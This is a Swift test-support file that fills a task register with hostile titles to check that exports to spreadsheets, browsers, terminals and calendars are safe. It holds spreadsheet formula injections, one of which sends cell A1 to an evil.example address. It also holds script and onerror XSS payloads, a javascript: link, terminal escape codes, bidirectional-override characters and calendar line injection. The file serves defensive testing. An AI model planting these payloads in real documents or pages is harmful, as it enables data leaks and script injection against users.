import HusokModel
import HusokTestSupport

/// A register full of titles that mean something to a spreadsheet, a browser, a terminal or a
/// calendar.
enum Hostile {
  static let titles = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "+82-2-2100-1234", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''x", "'", "2026-12", "1/2", "007",
    "1E5", "12345678901234567890", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</title></table></svg>", "\" onmouseover=\"alert(1)", "&lt;b&gt; &amp; &",
    "![x](http://e.example/x.png)",
    "[link](javascript:alert(1))", "| a | b |", "# heading", "- item", "1. item", "```code```",
    "**bold** _it_ ~~no~~ $x$", "www.evil.example and http://evil.example/ and a@evil.example",
    "line\nbreak", "line\r\nbreak", "a;b,c\\d\"e\"", "\u{1B}[2Jcleared", "\u{1B}]0;title\u{7}",
    "\u{202E}desrever\u{202C}", "\u{2066}iso\u{2069}", "\u{200B}zero\u{FEFF}width", "e\u{301} 한글",
    "\u{1112}\u{1161}\u{11AB}글", "👩‍👩‍👧 family", "end with space ", " begins with space",
    "\u{85}\u{2028}\u{2029}x",
    "BEGIN:VEVENT\r\nEND:VCALENDAR", "한글제목이아주길어서일흔다섯옥텟을넘어가는경우접어야합니다그런데글자가운데서접으면안됩니다",
    "cell \"\"quoted\"\"\nand, more", ",,,", "a\\, b; c",
  ]

  /// The bundled register with an action for each title, which is also a tag, a note and what the
  /// action waits for.
  static func register() throws -> Register {
    var register = try Fixtures.bundled()
    var context = Fixtures.context()
    for (index, title) in titles.enumerated() {
      var action = FollowUpAction()
      action.id = "CN26-3.\(100 + index)"
      action.outcome = "CN26-3"
      action.title = Bilingual(en: title, ko: index % 2 == 0 ? title : nil)
      action.tags = ["plain"]
      action.due = index % 3 == 0 ? Due("2026-12") : nil
      var waiting = WaitingOn()
      waiting.text = title
      action.waitingOn = waiting
      var note = Note()
      note.at = Fixtures.now
      note.by = title
      note.text = title
      action.notes = [note]
      try register.apply(register.adding(action, in: &context))
      // A tag that a person could not give it, as another program may.
      var tag = Change()
      tag.id = "tag-\(index)"
      tag.at = context.at
      (tag.record, tag.field, tag.to) = (action.id, "tags", .string(title))
      try register.apply(Act([tag]))
    }
    return register
  }

  /// The scalars that may be in no paper or calendar.
  static func isForbidden(_ scalar: Unicode.Scalar) -> Bool {
    switch scalar.value {
    case 0x09, 0x0A, 0x0D: false
    case 0..<0x20, 0x7F..<0xA0, 0x61C, 0x200E...0x200F, 0x2028...0x202E, 0x2065...0x206F, 0xFEFF:
      true
    default: false
    }
  }
}
